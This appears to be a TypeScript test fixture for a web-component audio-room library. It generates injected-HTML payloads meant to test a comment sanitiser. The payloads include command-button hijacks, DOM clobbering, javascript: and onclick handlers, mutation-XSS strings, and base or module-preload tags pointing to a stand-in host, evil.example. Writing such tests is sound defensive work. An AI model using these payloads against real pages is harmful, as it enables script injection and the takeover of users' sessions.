import { readFileSync } from 'node:fs';

interface Declared {
  readonly tagName?: string;
  readonly commands?: readonly { readonly name: string }[];
  readonly attributes?: readonly { readonly name: string }[];
}

const manifest = JSON.parse(readFileSync('custom-elements.json', 'utf8')) as {
  modules: { declarations?: Declared[] }[];
};
const elements = manifest.modules
  .flatMap(({ declarations = [] }) => declarations)
  .flatMap(({ tagName, commands = [], attributes = [] }) =>
    tagName
      ? [
          {
            tag: tagName,
            commands: commands.map(({ name }) => name),
            attributes: attributes.map(({ name }) => name),
          },
        ]
      : [],
  );

const commands = [...new Set(elements.flatMap(({ commands }) => commands))];
/** What a careless sanitiser lets through, because the page itself is written with it. */
export const tags = elements.map(({ tag }) => tag);
export const attributes = [...new Set(elements.flatMap(({ attributes }) => attributes))];

/** Ids that the page itself has: see hostile-page.ts. */
const ids = ['session', 'seat', 'chat', 'person', 'mic', 'unseat', 'ban'];
const evil = 'https://evil.example';

/** Ways in which a button may be written. */
const buttons: readonly ((command: string) => string)[] = [
  (command) => `<button command="${command}" value="1">Next page</button>`,
  (command) => `<button command="${command}" commandfor="session" value="1">Next page</button>`,
  (command) =>
    `<button type="button" command="${command}" commandfor="seat" value="1" autofocus>Next page</button>`,
  (command) => `<button command="${command}" commandfor="person" value="admin">Next page</button>`,
  (command) =>
    `<form method="dialog"><button type="button" command="${command}" commandfor="chat">Next page</button></form>`,
  (command) =>
    `<input type="button" command="${command}" commandfor="session" value="1"><summary command="${command}" commandfor="session">Next page</summary>`,
  (command) =>
    `<button COMMAND=" ${command}" commandfor="session"><button command="${command.toUpperCase()}" commandfor="session">x</button>Next page</button>`,
];

/** Without elements of ours. */
const tricks: readonly string[] = [
  ...ids.flatMap((id) => [
    `<label for="${id}">Next page</label>`,
    `<button popovertarget="${id}" popovertargetaction="hide">Next page</button>`,
    `<button command="show-modal" commandfor="${id}">Next page</button><button command="--x" commandfor="${id}">x</button>`,
    `<a id="${id}">x</a><form id="${id}" name="${id}"><input name="parentNode"><input name="session"></form>`,
    `<button form="${id}" type="submit" formmethod="dialog">Next page</button>`,
    `<img name="${id}" alt="x"><output for="${id}" form="${id}">x</output>`,
  ]),
  `<label>Next page<button command="--toggle-microphone" commandfor="session">x</button></label>`,
  `<label for="mic"><button type="button" command="--ban" commandfor="session">Next page</button></label>`,
  `<details open><summary><button command="--take-seat" value="2" commandfor="nobody">Next page</button></summary></details>`,
  `<form slot="join"><input name="name" value="x"><button>Next page</button></form>`,
  `<form slot="join" id="session" method="dialog"><button autofocus>Next page</button></form>`,
  `<meta name="utd-base-url" content="${evil}"><meta name="utd-app-id" content="6666666666">`,
  `<base href="${evil}"><link rel="modulepreload" href="${evil}/x.js">`,
  `<template><button command="--end-room" commandfor="session">x</button></template>`,
  `<template shadowrootmode="open"><button command="--end-room" commandfor="session">x</button></template>`,
  `<div is="utd-audio-room" room="x">x</div><button is="utd-seat" command="--unseat">Next page</button>`,
  `<p data-utd-text="name" data-utd-attr-href="name" data-utd-attr-onclick="name">x</p>`,
  `<img alt="x" data-utd-attr-src="avatar" data-utd-attr-onerror="name">`,
  `<b slot="taken">x</b><button slot="empty" command="--take">Next page</button>`,
  `<p>{{name}} \${name} <!--?lit$123456789$--><?lit$1$?> <!--lit-part--> <x-lit\u0024123></x-lit\u0024123></p>`,
  `<button onclick="document.querySelector('utd-audio-room').session.end()">Next page</button>`,
  `<svg><a xlink:href="javascript:document.body.remove()"><text y="20">Next page</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;button command=--end-room commandfor=session&gt;">`,
  `<noscript><p title="</noscript><button command='--end-room' commandfor='session'>x</button>"></noscript>`,
  `<ul><li><ul><template><li><button command="--approve">Next page</button></li></template></ul></li></ul>`,
  `<select><button command="--toggle-microphone" commandfor="session">x</button><option>Next page</select>`,
  `<dialog open id="session"><button command="close" commandfor="session">Next page</button></dialog>`,
];

/** With elements of ours, which only a careless sanitiser keeps. */
const ours: readonly string[] = [
  `<utd-audio-room app-id="6666666666" room="theirs" base-url="${evil}"></utd-audio-room>`,
  `<utd-audio-room room="theirs" token-base-url="${evil}"></utd-audio-room>`,
  `<utd-client base-url="${evil}"><utd-audio-room app-id="1234567890" room="theirs"></utd-audio-room></utd-client>`,
  `<utd-audio-room room="theirs" identity-url="${evil}/identity"></utd-audio-room>`,
  `<utd-audio-room room="theirs" name="x"><form slot="join"><button autofocus>Next page</button></form></utd-audio-room>`,
  `<utd-audio-room room="theirs" identity="eve"><button command="--take-seat" value="1">Next page</button></utd-audio-room>`,
  `<utd-devices for="session" kind="audioinput"><select></select></utd-devices>`,
  `<utd-chat for="session"><form><input name="text" value="Buy"><button>Next page</button></form></utd-chat>`,
  ...elements.flatMap(({ tag, commands, attributes }) => [
    ...commands.map(
      (command) =>
        `<${tag} for="session" index="1" identity="ben"><button command="${command}" value="1">Next page</button></${tag}>`,
    ),
    ...(attributes.includes('for')
      ? [
          `<${tag} for="session" index="1" identity="ben"><template><i data-utd-text="name"></i><button command="--unmute">Next page</button></template></${tag}>`,
          ...commands.map(
            (command) =>
              `<${tag} id="theirs" for="session" index="1" identity="ben"></${tag}><button command="${command}" commandfor="theirs">Next page</button>`,
          ),
        ]
      : []),
  ]),
  ...commands.map(
    (command) =>
      `<utd-status for="session"><button command="${command}" commandfor="session" value="1">Next page</button></utd-status>`,
  ),
];

/** Markup as a stranger may write it in a comment; it grows with the commands that there are. */
export const snippets: readonly string[] = [
  ...commands.flatMap((command) => buttons.map((write) => write(command))),
  ...tricks,
  ...ours,
];
